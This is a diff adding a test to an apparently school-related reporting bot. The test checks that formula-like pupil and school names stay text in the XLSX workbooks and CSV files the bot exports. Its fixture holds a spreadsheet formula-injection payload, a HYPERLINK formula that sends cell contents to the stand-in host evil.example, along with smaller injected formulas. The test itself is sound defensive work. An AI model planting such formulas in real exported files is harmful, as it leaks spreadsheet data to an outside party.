@@ -268,3 +268,32 @@ def test_the_overview_counts_the_cases_verified_for_the_last_verification() -> N
         ("TZ-000001", date(2026, 11, 17)), ("TZ-000002", date(2026, 11, 16)),
         ("TZ-000003", None), ("TZ-000004", date(2026, 12, 2)),
     ]  # fmt: skip
+
+
+def test_no_workbook_cell_is_a_formula_whatever_the_names() -> None:
+    # A pupil, school or person named like a formula ("=HYPERLINK(…)") stays text in every
+    # workbook the bot makes, and a CSV cell cannot start one either.
+    from bot.reports.data import PupilLine
+    from bot.reports.exports import inspectie_xlsx, overview_csv, overview_xlsx, pupil_list_xlsx
+    from bot.reports.overview import CaseRecord, inspectie_rows, overview
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+    day, made = date(2026, 12, 15), datetime(2026, 12, 15, 9, 0)
+    case = CaseRecord(1, "B2", None, date(2026, 9, 1), None, None, "=1+1 (12AB)", evil, "@SUM(A1)")
+    workbooks = [
+        overview_xlsx(overview([case], day), evil, made),
+        pupil_list_xlsx([PupilLine(evil, "B2", date(2026, 9, 1), "=1+1", "nee")], day, evil, made),
+        inspectie_xlsx(inspectie_rows([case], day), evil, made),
+    ]
+    for book in workbooks:
+        cells = [
+            cell
+            for sheet in load_workbook(io.BytesIO(book)).worksheets
+            for row in sheet.iter_rows()
+            for cell in row
+        ]
+        assert not [c.coordinate for c in cells if c.data_type == "f"]
+        assert any(c.value == evil for c in cells)  # kept as typed, as text
+    lines = overview_csv(overview([case], day)).splitlines()
+    assert not [line for line in lines if ",=" in line or ",@" in line or ",+" in line]
+    assert any(",'=1+1 (12AB)," in line for line in lines)
